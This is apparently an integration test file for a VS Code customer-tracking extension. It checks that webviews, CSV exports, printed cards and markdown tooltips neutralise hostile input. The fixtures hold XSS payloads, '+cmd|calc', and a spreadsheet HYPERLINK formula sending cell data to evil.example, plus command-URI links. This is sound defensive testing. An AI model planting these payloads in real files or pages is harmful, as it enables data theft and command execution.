// Nothing injected: what the host sends the trend review is checked by the page, tooltips
// built from what customers wrote carry no live links, and the Incidents view keeps the
// recently resolved by the domain's rule.
import { strict as assert } from 'node:assert';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { parse } from 'csv-parse/sync';
import { parse as parseHtml } from 'parse5';
import MarkdownIt from 'markdown-it';
import { writeCardsFile } from '../../src/panels/printCards';
import { HOSTILE, activeParts, attr, elements, textOf, type Element } from '../unit/support/htmlChecks';
import type { LoyalApi } from '../../src/extension';
import type { TrendsPanel } from '../../src/panels/trendsPanel';
import { DEFAULT_TRENDS_QUERY } from '../../src/panels/trendsPanel';
import { activateLoyal, closeAllEditors, freshFixture, resetWorkspaceFile, treeGroup, waitFor } from './harness';

describe('the trend review page checks every message from the host', function () {
  this.timeout(120_000);
  let loyal: LoyalApi;

  before(async () => {
    loyal = (await activateLoyal<LoyalApi>()).exports;
    await loyal.ready;
    await freshFixture(loyal);
    await closeAllEditors();
  });

  after(async () => {
    await closeAllEditors();
  });

  it('refuses a malformed report, keeps what it shows, and tells the host why', async () => {
    const panel = (await vscode.commands.executeCommand<TrendsPanel>('loyal.trends.open'))!;
    const first = await panel.waitForRender(0);
    const refusedBefore = panel.refusedByPage.length;
    // A report with a field missing and a script where a number belongs.
    await panel.panel.webview.postMessage({ type: 'report', payload: { report: { total: '<img src=x onerror=alert(1)>' } } });
    await panel.panel.webview.postMessage({ type: 'drillResult', result: { requestId: 1, total: 1, incidents: [{ id: 'inc_x', summary: 42 }] } });
    await waitFor('the page to refuse both messages', () => panel.refusedByPage.length >= refusedBefore + 2, 20_000);
    assert.match(panel.refusedByPage[refusedBefore], /payload/);
    assert.match(panel.refusedByPage[refusedBefore + 1], /result\.incidents/);
    // Still the same page, and still answering the host's good messages.
    assert.equal(panel.lastRendered?.renderCount, first.renderCount, 'the refused report was not drawn');
    const next = await panel.applyQuery({ preset: 'all', bucket: 'week', filters: {} });
    assert.equal(next.renderCount, first.renderCount + 1);
    assert.equal(next.total, loyal.session.file.incidents.length);
    // A reopened review starts from the query it was left with: leave it as other tests expect.
    await panel.applyQuery(DEFAULT_TRENDS_QUERY);
    await closeAllEditors();
  });
});

const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** The fixture book with a customer, an incident tag and a component written like formulas. */
async function hostileFixture(loyal: LoyalApi): Promise<void> {
  const path = resetWorkspaceFile('loyal.json');
  const file = JSON.parse(readFileSync(path, 'utf8'));
  file.customers[0].name = EVIL_NAME;
  file.customers[0].company = '@SUM(A1:A9)';
  for (const incident of file.incidents) {
    incident.tags = ['+cmd|calc'];
    incident.component = '-2+3';
  }
  writeFileSync(path, JSON.stringify(file, null, 2) + '\n');
  await loyal.session.reload();
  await waitFor('the hostile book', () => loyal.session.state === 'ok' && loyal.session.file.customers.some((c) => c.name === EVIL_NAME));
}

describe('CSV exports from the editor', function () {
  this.timeout(120_000);
  let loyal: LoyalApi;
  const scratch = mkdtempSync(join(tmpdir(), 'loyal-export-'));

  before(async () => {
    loyal = (await activateLoyal<LoyalApi>()).exports;
    await loyal.ready;
    await hostileFixture(loyal);
  });

  after(async () => {
    await closeAllEditors();
    rmSync(scratch, { recursive: true, force: true });
    await freshFixture(loyal);
  });

  it('neutralise a customer named like a formula in Export CSV', async () => {
    const target = join(scratch, 'customers.csv');
    assert.equal(await vscode.commands.executeCommand('loyal.export', { kind: 'customers', path: target }), target);
    const rows = parse(readFileSync(target, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    const row = rows.find((r) => r.name.includes('HYPERLINK'))!;
    assert.equal(row.name, `'${EVIL_NAME}`);
    assert.equal(row.company, "'@SUM(A1:A9)");
  });

  it('neutralise tags and components in the trend review tables', async () => {
    const panel = (await vscode.commands.executeCommand<TrendsPanel>('loyal.trends.open'))!;
    try {
      await panel.applyQuery({ preset: 'all', bucket: 'month', filters: {} });
      await waitFor('the hostile incidents in the report', () => panel.payload().report.topComplaints.length > 0);
      const top = parse(readFileSync(await panel.exportTo('csv', join(scratch, 'top.csv'), 'topComplaints'), 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
      assert.equal(top[0].tag, "'+cmd|calc");
      const components = parse(readFileSync(await panel.exportTo('csv', join(scratch, 'components.csv'), 'byComponent'), 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
      assert.equal(components[0].component, "'-2+3");
    } finally {
      // A reopened review starts from the query it was left with: leave it as other tests expect.
      await panel.applyQuery(DEFAULT_TRENDS_QUERY);
    }
  });
});

describe('the print cards page with hostile names, addresses and note texts', function () {
  this.timeout(60_000);
  let loyal: LoyalApi;

  before(async () => {
    loyal = (await activateLoyal<LoyalApi>()).exports;
    await loyal.ready;
    const path = resetWorkspaceFile('loyal.json');
    const file = JSON.parse(readFileSync(path, 'utf8'));
    const audit = { createdAt: '2026-01-05T09:00:00+01:00', createdBy: 'test', updatedAt: '2026-01-05T09:00:00+01:00', updatedBy: 'test' };
    file.notes = [];
    HOSTILE.forEach((evil, n) => {
      const id = `cus_evil${String(n).padStart(4, '0')}`;
      file.customers.push({ id, name: `${evil} ${n}`, address: `${evil}\nline two ${n}`, owner: `owner ${evil}`, tags: [evil.slice(0, 90)], archived: false, ...audit });
      file.notes.push({ id: `not_evil${String(n).padStart(4, '0')}`, customerId: id, due: `2026-01-${String(10 + n).padStart(2, '0')}`, status: 'to-write', text: `Dear ${evil},\nsorry.`, ...audit });
    });
    file.customers.sort((a: { id: string }, b: { id: string }) => (a.id < b.id ? -1 : 1));
    writeFileSync(path, JSON.stringify(file, null, 2) + '\n');
    await loyal.session.reload();
    await waitFor('the hostile notes', () => loyal.session.state === 'ok' && loyal.session.file.notes.length === HOSTILE.length);
  });

  after(async () => {
    await freshFixture(loyal);
  });

  it('runs nothing and shows every name, address, note text and signature as written', async () => {
    const page = readFileSync((await writeCardsFile(loyal.session))!, 'utf8');
    const document = parseHtml(page);
    assert.deepEqual(activeParts(document, 1), [], 'one script (the Print button), no handler, image or link');
    const articles = elements(document).filter((e) => e.tagName === 'article');
    assert.equal(articles.length, HOSTILE.length);
    const byClass = (root: Element, name: string): string[] =>
      elements(root)
        .filter((e) => attr(e, 'class') === name)
        .map(textOf);
    HOSTILE.forEach((evil, n) => {
      const article = articles.find((a) => attr(a, 'data-note') === `not_evil${String(n).padStart(4, '0')}`)!;
      assert.ok(article, `the card of note ${n}`);
      assert.deepEqual(byClass(article, 'name'), [`${evil} ${n}`.trim()]);
      assert.deepEqual(byClass(article, 'address'), [`${evil} ${n}`.trim() + `${evil}\nline two ${n}`.trim()]);
      assert.deepEqual(byClass(article, 'text'), [`Dear ${evil},\nsorry.`]);
      assert.deepEqual(byClass(article, 'signature'), [`owner ${evil}`.trim()]);
    });
  });
});

/** Every tree item of a view, depth first, with its children. */
async function allItems<T>(provider: vscode.TreeDataProvider<T>, parent?: T): Promise<vscode.TreeItem[]> {
  const items: vscode.TreeItem[] = [];
  for (const node of (await provider.getChildren(parent)) ?? []) {
    items.push(await provider.getTreeItem(node));
    items.push(...(await allItems(provider, node)));
  }
  return items;
}

describe('tooltips built from what customers and teammates typed', function () {
  this.timeout(60_000);
  let loyal: LoyalApi;
  const LINK = '[Archive](command:loyal.customer.archive?%5B%22cus_alice0001%22%5D)';

  before(async () => {
    loyal = (await activateLoyal<LoyalApi>()).exports;
    await loyal.ready;
    const path = resetWorkspaceFile('loyal.json');
    const file = JSON.parse(readFileSync(path, 'utf8'));
    // Every text the four views put in a tooltip, hostile.
    file.customers[0].name = `${LINK} <b>Alice</b>`;
    file.customers[0].company = '$(alert) ![x](http://evil.example/x.png)';
    file.customers[2].name = 'Chloé\n===';
    file.incidents[0].summary = `Late\n===\n${LINK}`;
    file.incidents[0].component = '<img src=x onerror=alert(1)>';
    file.incidents[0].staff = '[x]: command:workbench.action.terminal.new';
    file.followUps[0].assignee = `${LINK}`;
    file.notes[0].text = `Dear Chloé,\n<script>alert(1)</script>\n${LINK}\n---`;
    file.notes[0].address = '# Quai\n* Perrache';
    writeFileSync(path, JSON.stringify(file, null, 2) + '\n');
    await loyal.session.reload();
    await waitFor('the hostile book', () => loyal.session.state === 'ok' && loyal.session.file.customers[0].name.startsWith('[Archive]'));
    await loyal.session.settled();
  });

  after(async () => {
    await freshFixture(loyal);
  });

  it('are untrusted, with no HTML, and render no link, image, heading or command', async () => {
    const markdown = new MarkdownIt({ html: true, linkify: true });
    let checked = 0;
    for (const provider of [loyal.views.today, loyal.views.customers, loyal.views.notes, loyal.views.incidents] as Array<vscode.TreeDataProvider<unknown>>) {
      for (const item of await allItems(provider)) {
        if (!(item.tooltip instanceof vscode.MarkdownString)) continue;
        const tooltip = item.tooltip;
        assert.equal(tooltip.isTrusted, false, `${String(item.label)}: untrusted`);
        assert.notEqual(tooltip.supportHtml, true, `${String(item.label)}: no HTML`);
        const document = parseHtml(markdown.render(tooltip.value));
        const tags = [...new Set(elements(document).map((e) => e.tagName))].filter((t) => !['html', 'head', 'body', 'p', 'strong', 'em', 'blockquote', 'br'].includes(t));
        assert.deepEqual(tags, [], `${String(item.label)}: ${tooltip.value}`);
        checked++;
      }
    }
    assert.ok(checked >= 5, `${checked} tooltips checked`);
    const alice = (await allItems(loyal.views.customers)).find((item) => String(item.label).startsWith('[Archive]'))!;
    const text = textOf(parseHtml(markdown.render((alice.tooltip as vscode.MarkdownString).value)));
    assert.ok(text.includes(`${LINK} <b>Alice</b>`), `the name reads as written: ${text}`);
  });
});

describe('the Incidents view lists the recently resolved by the domain rule', function () {
  this.timeout(60_000);
  let loyal: LoyalApi;

  before(async () => {
    loyal = (await activateLoyal<LoyalApi>()).exports;
    await loyal.ready;
  });

  after(async () => {
    await freshFixture(loyal);
  });

  it('keeps an incident resolved 30 local calendar days ago, written with a far-west offset', async () => {
    // Local half past midnight 30 days ago, written at UTC-12:00: the day before, on paper.
    const now = new Date();
    const local = new Date(now.getFullYear(), now.getMonth(), now.getDate() - 30, 0, 30);
    const atMinus12 = new Date(local.getTime() - 12 * 3_600_000);
    const resolvedAt = `${atMinus12.toISOString().slice(0, 19)}-12:00`;
    assert.notEqual(resolvedAt.slice(0, 10), `${local.getFullYear()}-${String(local.getMonth() + 1).padStart(2, '0')}-${String(local.getDate()).padStart(2, '0')}`);
    const path = resetWorkspaceFile('loyal.json');
    const file = JSON.parse(readFileSync(path, 'utf8'));
    file.incidents[1].resolvedAt = resolvedAt;
    file.incidents[1].openedAt = `${atMinus12.toISOString().slice(0, 10)}T00:00:00-12:00`;
    writeFileSync(path, JSON.stringify(file, null, 2) + '\n');
    await loyal.session.reload();
    await waitFor('the book', () => loyal.session.state === 'ok' && loyal.session.file.incidents[1]?.resolvedAt === resolvedAt);
    const resolved = await treeGroup(loyal.views.incidents, 'Recently resolved');
    assert.ok(resolved, 'the Recently resolved group is there');
    const items = await allItems(loyal.views.incidents, resolved);
    assert.deepEqual(
      items.map((item) => String(item.label)),
      ['Chloé Dubois'],
    );
    assert.match(String(items[0].description), /Beans tasted stale/);
  });
});
